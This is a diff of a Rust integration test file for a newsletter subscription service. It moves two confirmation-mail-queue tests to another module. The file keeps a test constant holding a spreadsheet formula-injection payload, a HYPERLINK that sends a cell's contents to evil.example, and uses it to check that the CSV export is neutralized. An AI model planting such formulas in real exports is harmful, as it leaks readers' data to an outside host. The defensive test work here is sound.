@@ -1,11 +1,10 @@
 //! Nobody but a mailbox's owner acts on its subscription, through the real server: links bound to the subscription
-//! they were made for (ids never reused), form posts that change nothing until confirmed, the consent history, the
-//! confirmation mail sent off the request path from a queue that survives `kill -9`, one address rule for every
-//! way in, and a CSV export that a spreadsheet cannot run.
+//! they were made for (ids never reused), form posts that change nothing until confirmed, the consent history, one
+//! address rule for every way in, and a CSV export that a spreadsheet cannot run. The confirmation mail queue is in
+//! `web_confirmation_queue`.
 
 use std::path::Path;
 use std::process::Command;
-use std::time::Duration;
 
 use chrono::Duration as Span;
 use weekly_verdicts::email_address::SubscriberEmail;
@@ -13,8 +12,6 @@ use weekly_verdicts::store::{Status, Store};
 use weekly_verdicts::tokens::Purpose;
 
 use crate::support::app::{TestApp, spawn_app};
-use crate::support::serve_process::ServeProcess;
-use crate::support::smtp::{Rule, Script, SmtpServer, Stage};
 
 const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?d="&A2,"Click")"#;
 
@@ -201,112 +198,6 @@ async fn a_form_post_by_a_stranger_changes_neither_a_pending_name_nor_an_unsubsc
         "{}",
         history.stdout
     );
-}
-
-#[tokio::test]
-async fn subscribe_answers_for_a_new_and_a_confirmed_address_while_the_relay_stalls() {
-    let app = spawn_app().await;
-    confirmed_reader(&app, "known@example.org", 0).await;
-    // From now on the relay accepts the connection and then says nothing for an hour: any mail work in the
-    // handler would hold its answer.
-    app.smtp.set_script(
-        Script::accept_all().rule(Rule::at(Stage::Ehlo).stall(Duration::from_secs(3600))),
-    );
-    app.clock.advance(Span::minutes(30));
-    let client = reqwest::Client::builder()
-        .timeout(Duration::from_secs(60))
-        .build()
-        .unwrap();
-    for email in ["new@example.org", "known@example.org"] {
-        let answer = client
-            .post(app.url("/subscribe"))
-            .json(&serde_json::json!({ "email": email }))
-            .send()
-            .await
-            .unwrap_or_else(|e| panic!("no answer for {email}: {e}"));
-        assert_eq!(answer.status(), 202, "{email}");
-    }
-    assert_eq!(status(&app, "new@example.org"), Some(Status::Pending));
-}
-
-#[tokio::test(flavor = "multi_thread")]
-async fn a_confirmation_mail_queued_before_a_kill_9_is_sent_after_the_restart() {
-    let folder = tempfile::tempdir().unwrap();
-    let database = folder.path().join("verdicts.db");
-    let database_env = database.to_str().unwrap().to_owned();
-    let stalling = SmtpServer::start(
-        Script::accept_all().rule(Rule::at(Stage::Data).stall(Duration::from_secs(3600))),
-    )
-    .await;
-    let stalling_url = stalling.url();
-    let mut first = tokio::task::spawn_blocking(move || {
-        ServeProcess::start(
-            &[
-                ("VERDICTS_DATABASE", &database_env),
-                ("VERDICTS_SMTP_URL", &stalling_url),
-            ],
-            None,
-        )
-    })
-    .await
-    .unwrap();
-    let answer = reqwest::Client::new()
-        .post(format!("http://{}/subscribe", first.addr))
-        .json(&serde_json::json!({ "email": "survivor@example.org", "name": "Sam" }))
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(answer.status(), 202);
-    // The mail is on its way: the relay has the recipient and holds the DATA command.
-    for _ in 0..500 {
-        if stalling
-            .commands()
-            .iter()
-            .any(|(_, c)| c.starts_with("DATA"))
-        {
-            break;
-        }
-        tokio::time::sleep(Duration::from_millis(20)).await;
-    }
-    assert!(
-        stalling
-            .commands()
-            .iter()
-            .any(|(_, c)| c.starts_with("DATA")),
-        "{:?}\n{}",
-        stalling.commands(),
-        first.log()
-    );
-    first.child.kill().unwrap(); // SIGKILL
-    first.child.wait().unwrap();
-    assert!(stalling.messages().is_empty());
-
-    let relay = SmtpServer::start(Script::accept_all()).await;
-    let relay_url = relay.url();
-    let database_env = database.to_str().unwrap().to_owned();
-    let second = tokio::task::spawn_blocking(move || {
-        ServeProcess::start(
-            &[
-                ("VERDICTS_DATABASE", &database_env),
-                ("VERDICTS_SMTP_URL", &relay_url),
-            ],
-            None,
-        )
-    })
-    .await
-    .unwrap();
-    let mails = relay.wait_for_messages(1, Duration::from_secs(30)).await;
-    assert_eq!(mails.len(), 1, "{}", second.log());
-    assert_eq!(mails[0].rcpt_to, ["survivor@example.org"]);
-    assert!(mails[0].header("To").unwrap().contains("Sam"));
-    let queued: i64 = rusqlite::Connection::open(&database)
-        .unwrap()
-        .query_row("SELECT count(*) FROM confirmation_mails", [], |row| {
-            row.get(0)
-        })
-        .unwrap();
-    assert_eq!(queued, 0, "the sent mail is off the queue");
-    drop(second);
 }
 
 #[tokio::test]
